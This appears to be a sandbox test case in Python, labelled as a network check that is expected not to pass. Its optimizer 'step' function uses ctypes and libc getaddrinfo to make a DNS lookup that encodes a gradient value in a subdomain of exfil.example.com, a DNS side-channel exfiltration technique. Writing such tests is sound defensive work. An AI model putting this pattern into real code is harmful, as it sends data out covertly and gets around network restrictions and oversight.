# category: network
# expect: not-passed
# expect-outcome: completed
# DNS as a side channel: the lookup alone would carry data out, even without a connection.
import ctypes


class AddrInfo(ctypes.Structure):
    pass


libc = ctypes.CDLL(None, use_errno=True)


def lookup(name: str) -> str:
    result = ctypes.c_void_p()
    code = libc.getaddrinfo(name.encode(), b"80", None, ctypes.byref(result))
    return "resolved" if code == 0 else f"getaddrinfo failed with {code}"


def init_state(params):
    return {"looked_up": False}


def step(params, grads, state, *, lr):
    if state["looked_up"]:
        return params, state
    state["looked_up"] = True
    for name in (f"g{abs(float(grads.ravel()[0])):.6f}.exfil.example.com", "localhost", "example.com"):
        print(name, lookup(name), flush=True)
    return params, state
